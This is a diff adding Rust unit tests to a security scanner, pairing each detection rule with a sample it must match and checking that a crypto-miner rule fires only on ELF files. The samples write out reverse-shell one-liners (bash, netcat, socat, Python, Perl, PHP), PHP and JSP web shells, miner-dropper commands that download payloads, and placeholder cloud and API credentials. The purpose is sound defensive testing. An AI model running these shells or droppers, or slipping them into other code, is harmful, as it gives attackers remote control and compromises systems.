@@ -180,7 +180,70 @@ pub(crate) fn line_excerpt(bytes: &[u8], offset: usize, length: usize) -> String
 
 #[cfg(test)]
 mod tests {
+    use std::collections::BTreeSet;
+
     use super::*;
+
+    /// One text per bundled rule that the rule must find.
+    const SAMPLES: &[(&str, &str)] = &[
+        ("miner-stratum-url", "url=stratum+ssl://pool.example.invalid:443"),
+        ("miner-pool-domain", "POOL=gulf.moneroocean.stream:10128"),
+        ("miner-config", r#"{"pools":[{"url":"u","user":"w"}],"donate-level":1,"algo":"rx/0"}"#),
+        ("miner-cli-options", "./x --donate-level 0 --max-cpu-usage 90"),
+        ("miner-wallet", "--user 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -o pool"),
+        ("revshell-bash-dev-tcp", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
+        ("revshell-netcat-exec", "nc.traditional -e /bin/bash 192.0.2.1 1"),
+        ("revshell-mkfifo-pipe", "mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f"),
+        ("revshell-socat-exec", "socat exec:'sh -i',pty tcp:192.0.2.1:1"),
+        ("revshell-python-socket", "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('sh')"),
+        ("revshell-perl-socket", "socket(S,PF_INET,1,6);open(STDIN,'>&S');exec('/bin/sh -i');"),
+        ("revshell-php-socket", "$s=fsockopen('h',1);shell_exec('/bin/sh -i <&3');"),
+        ("webshell-php-request-exec", "<?php passthru($_REQUEST['c']);"),
+        ("webshell-jsp-runtime-exec", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
+        ("malware-kinsing", "curl -o /tmp/kdevtmpfsi http://h/kinsing"),
+        ("malware-miner-dropper", "killall -9 minerd\nsetenforce 0\nchattr -i /etc/x "),
+        ("malware-teamtnt", "# TeamTNT\ncurl -s http://h/xmrig"),
+        ("secret-private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"),
+        ("secret-aws-access-key-id", "id=AKIAZ7QW3ERT5YUI7OPA"),
+        ("secret-aws-secret-access-key", "aws_secret_access_key = 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"),
+        ("secret-gcp-service-account", r#"{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\n"}"#),
+        ("secret-gcp-api-key", "key=AIzaSyZq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL"),
+        ("secret-azure-storage-key", "AccountName=a;AccountKey=Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mNa1b2Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mNa1b2Zq8Xv2==;"),
+        ("secret-github-token", "t=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"),
+        ("secret-gitlab-token", "glpat-Zq8Xv2LmZ7rT4wK9pN3b"),
+        ("secret-slack-token", "xoxb-1234567890-Zq8Xv2LmZ7rT4wK9pN3b"),
+        ("secret-slack-webhook", "https://hooks.slack.com/services/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"),
+        ("secret-stripe-key", "rk_live_Zq8Xv2LmZ7rT4wK9pN3bY6cD"),
+        ("secret-alibaba-access-key", "LTAI5tQm8XvZ2pL7rK9nB4wY"),
+        ("secret-generic-assignment", "api_key = \"qPQdb629ADURTPYT1DLoqsNTKTSfdBoe\""),
+    ];
+
+    #[test]
+    fn every_text_rule_has_a_matching_sample() {
+        let rules = RuleSet::compile(&[]).unwrap();
+        let all = Scanners::default();
+        for (id, sample) in SAMPLES {
+            let hits = scan_bytes(&rules, all, sample.as_bytes());
+            assert!(hits.iter().any(|hit| hit.id == *id), "`{id}` missed its sample; hits {:?}", hits.iter().map(|h| &h.id).collect::<Vec<_>>());
+        }
+
+        // The two binary rules have their own tests with crafted ELF files.
+        let covered: BTreeSet<&str> = SAMPLES.iter().map(|(id, _)| *id).chain(["packed-upx", "miner-xmrig-binary"]).collect();
+        let missing: Vec<&str> = rules.all_info().map(|info| info.id.as_str()).filter(|id| !covered.contains(id)).collect();
+        assert!(missing.is_empty(), "rules without a sample: {missing:?}");
+    }
+
+    #[test]
+    fn xmrig_binary_rule_needs_an_elf() {
+        let rules = RuleSet::compile(&[]).unwrap();
+        let strings = b"XMRig 6.21 randomx donate-level stratum cryptonight";
+        let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
+        elf.extend_from_slice(strings);
+
+        let ids = |bytes: &[u8]| scan_bytes(&rules, Scanners::default(), bytes).into_iter().map(|hit| hit.id).collect::<Vec<_>>();
+        assert!(ids(&elf).contains(&"miner-xmrig-binary".to_owned()));
+        assert!(!ids(strings).contains(&"miner-xmrig-binary".to_owned()));
+    }
 
     #[test]
     fn excerpt_is_the_matching_line() {
